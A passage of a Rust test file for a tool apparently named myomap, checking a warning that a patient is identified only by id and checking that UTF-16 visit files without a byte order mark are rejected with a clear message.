        common::stderr(&output).contains("warning:")
            && common::stderr(&output).contains("the patient is named by their id only"),
        "{}",
        common::stderr(&output)
    );
}

#[test]
fn utf16_without_a_byte_order_mark_is_named_as_utf16() {
    let dir = tempfile::tempdir().expect("temp dir");
    let (_, visit) = demo_visit(dir.path());
    let text = std::fs::read_to_string(&visit).expect("read");
    let le: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let be: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
    for bytes in [le, be] {
        std::fs::write(&visit, &bytes).expect("write");
        let (code, out) = check(&visit);
        assert_eq!(code, 1);
        assert!(
            out.contains("the file is UTF-16 text; myomap reads UTF-8"),
            "{out}"
        );
    }
}
